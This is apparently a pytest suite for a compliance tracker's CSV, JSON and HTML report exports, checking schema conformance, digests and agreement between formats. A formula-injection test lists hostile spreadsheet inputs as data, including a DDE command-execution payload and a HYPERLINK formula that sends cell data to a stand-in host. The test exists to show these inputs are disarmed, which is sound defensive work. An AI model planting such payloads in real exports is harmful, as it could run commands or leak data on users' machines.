"""CSV and JSON, read again; and that all three formats tell the same figures."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from pathlib import Path
from typing import Any

import html5lib
import jsonschema
import pytest

from dsr_tracker.core.editing import Pen, Target, add_note, rate
from dsr_tracker.core.errors import UnknownNameError
from dsr_tracker.core.formulas import as_typed, harmless
from dsr_tracker.core.scales import IMPLEMENTATION, TORONTO
from dsr_tracker.reports.csv import COLUMNS
from dsr_tracker.reports.json import SCHEMA
from dsr_tracker.reports.report import Report, Scope, build_report
from dsr_tracker.reports.writing import FORMATS, render
from dsr_tracker.store.collecting import collect
from dsr_tracker.store.store import Store

SCHEMA_FILE = Path(__file__).parents[2] / "docs" / "report.schema.json"


def _rows(report: Report) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render(report, "csv").decode("utf-8-sig"), newline="")))


def _data(report: Report) -> dict[str, Any]:
    data = json.loads(render(report, "json"))
    assert isinstance(data, dict)
    return data


def test_csv_is_what_spreadsheets_open_as_it_is(report: Report) -> None:
    content = render(report, "csv")
    assert content.startswith(b"\xef\xbb\xbfinstrument_id,instrument,")
    assert content.endswith(b"\r\n")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == COLUMNS
    assert {len(row) for row in rows} == {len(COLUMNS)}


def test_csv_has_a_row_for_each_cell(report: Report) -> None:
    rows = _rows(report)
    assert [(row["provision_id"], row["party_id"]) for row in rows] == [tuple(cell) for cell in report.cells]
    for row, entry in zip(rows, report.cells.values(), strict=True):
        assert row["rating_id"] == entry.rating
        assert row["rating"] == report.scale.rating(entry.rating).label
        assert row["notes"] == str(len(entry.notes))
        assert row["evidence"] == str(len(entry.all_sources))
        assert row["level"] == ("measure" if entry.provision.is_measure else "clause")
        if entry.assessment:
            assert row["reason"] == entry.assessment.reason
            assert row["as_of"] == entry.assessment.as_of
            assert row["author"] == "Ana Analyst"
        for url in row["evidence_urls"].split():
            assert url in [report.evidence[number - 1].evidence.url for number in entry.all_sources]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "  \t@x", "＝1", "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1,"click")', "\u00a0=1", "\u3000=1",
        "'=1", "'", "''", "\ufeff=1", "\u200b+1",
    ],
)  # fmt: skip
def test_formulas_are_disarmed_and_found_again(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert as_typed(harmless(text)) == text


@pytest.mark.parametrize("text", ["", "a=1", "1-2", "中文", "#REF", "x\n=1", " x", "\ufeffa", "(1)", "’a’"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == as_typed(text) == text


def test_no_cell_of_a_csv_starts_a_formula_and_numbers_stay_numbers(tracker: Store) -> None:
    pen = Pen("=Ann", tracker.new_id)
    egypt = next(party for party in tracker.read.parties() if party.party_id == "EG")
    target = Target(tracker.read.provision("DEI-2017/01"), egypt)
    tracker.apply(
        rate(
            pen, [target], TORONTO.rating("no_compliance"), TORONTO, as_of="2026-01-01", reason='=1+"2",\n"x"'
        )
    )
    from dsr_tracker.core.editing import put
    from dsr_tracker.core.records import Setting

    tracker.apply(put(pen, "scale", None, Setting("scale", "toronto")))
    row = next(r for r in _rows(build_report(collect(tracker), Scope())) if r["as_of"])
    assert row["score"] == "-1"
    assert row["reason"] == '\'=1+"2",\n"x"'
    assert row["author"] == "'=Ann"
    for name, value in row.items():
        assert name == "score" or not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_json_keeps_to_its_published_schema(report: Report, initiative: Report, tracker: Store) -> None:
    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    closed = json.loads(json.dumps(schema), object_hook=_closed)
    for each in (report, initiative, build_report(collect(tracker), Scope())):
        jsonschema.Draft202012Validator(closed).validate(_data(each))
    assert schema["properties"]["schema"]["const"] == SCHEMA


def _closed(part: dict[str, Any]) -> dict[str, Any]:
    """The schema with no other keys allowed, so that none goes undescribed."""
    if part.get("type") == "object" and "properties" in part:
        return {**part, "additionalProperties": False}
    return part


def test_the_digest_can_be_computed_from_the_json(report: Report) -> None:
    data = _data(report)
    colophon = data.pop("colophon")
    for key in (
        "schema",
        "written_at",
        "known_on",
        "language",
        "subtitle",
        "method",
        "remarks",
        "differences",
        "agreement",
        "decisions",
        "feedback",
        "cycle",
    ):
        del data[key]
    del data["scope"]["words"]
    data |= {"tracker_id": colophon["tracker_id"], "catalogue_version": colophon["catalogue_version"]}
    canonical = json.dumps(data, sort_keys=True, separators=(",", ":")).encode()
    assert hashlib.sha256(canonical).hexdigest() == colophon["digest"] == report.colophon.digest


@pytest.mark.parametrize(
    "scope",
    [
        Scope(),
        Scope(("DEI-2017",)),
        Scope((), ("EG", "CN")),
        Scope((), ("CN",), "2025-06-30", with_subnational=True),
    ],
)
def test_all_formats_tell_the_same_figures(filled: Store, scope: Scope) -> None:
    report = build_report(collect(filled), scope)
    rows, data = _rows(report), _data(report)
    page = html5lib.parse(render(report, "html").decode(), namespaceHTMLElements=False)
    text = " ".join("".join(page.itertext()).split())
    clauses = [row for row in rows if row["level"] == "clause"]
    scores = [int(row["score"]) for row in clauses if row["score"]]
    applicable = len([row for row in clauses if row["rating_id"] != "not_applicable"])
    overall = data["overall"]
    assert (overall["scored"], overall["applicable"]) == (len(scores), applicable)
    assert overall["percent"] == pytest.approx(100 * sum(scores) / (3 * len(scores)))
    assert f"{overall['percent_rounded']} % ({len(scores)} of {applicable})" in text
    for each in overall["distribution"]:
        assert each["count"] == len([row for row in clauses if row["rating_id"] == each["rating"]])
    assert sum(int(row["notes"]) for row in rows) == sum(len(cell["notes"]) for cell in data["cells"])
    assert sum(int(row["notes"]) for row in rows) == len(page.findall(".//div[@class='note']"))
    assert len(data["evidence"]) == len(page.findall(".//ol[@class='evidence']/li"))
    cited = {url for row in rows for url in row["evidence_urls"].split()}
    assert cited == {each["url"] for each in data["evidence"] if each["url"]}
    for instrument in data["instruments"]:
        for clause in instrument["clauses"]:
            mean = clause["tally"]
            in_csv = [row for row in clauses if row["provision_id"] == clause["id"]]
            assert mean["scored"] == len([row for row in in_csv if row["score"]])
            if mean["percent"] is not None:
                assert f"{mean['percent_rounded']} % ({mean['scored']} of {mean['applicable']})" in text
    assert report.colophon.digest in text
    assert {row["report_digest"] for row in rows} == {data["colophon"]["digest"]}


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_report_gives_the_same_bytes(initiative: Report, name: str) -> None:
    assert render(initiative, name) == render(initiative, name)


def test_a_format_there_is_not_is_refused(initiative: Report) -> None:
    with pytest.raises(UnknownNameError, match=re.escape(", ".join(FORMATS))):
        render(initiative, "odt")


def test_long_and_strange_texts_come_back_from_csv_and_json_as_typed(tracker: Store) -> None:
    pen = Pen("安", tracker.new_id)
    egypt = next(party for party in tracker.read.parties() if party.party_id == "EG")
    target = Target(tracker.read.provision("DEI-2017/01"), egypt)
    text = 'x, "y"; z\n\nعربي 🛰️\u2067 <b>' + "长" * 900_000
    tracker.apply(
        rate(pen, [target], IMPLEMENTATION.rating("limited"), IMPLEMENTATION, as_of="2026-01-01", reason=text)
    )
    tracker.apply(add_note(pen, target, text))
    report = build_report(collect(tracker), Scope(("DEI-2017",), ("EG",)))
    limit = csv.field_size_limit(10_000_000)
    try:
        row = _rows(report)[0]
    finally:
        csv.field_size_limit(limit)
    assert row["reason"] == text
    cell = _data(report)["cells"][0]
    assert cell["assessment"]["reason"] == cell["notes"][0]["text"] == text
    assert re.search("长{1000}", render(report, "html").decode())
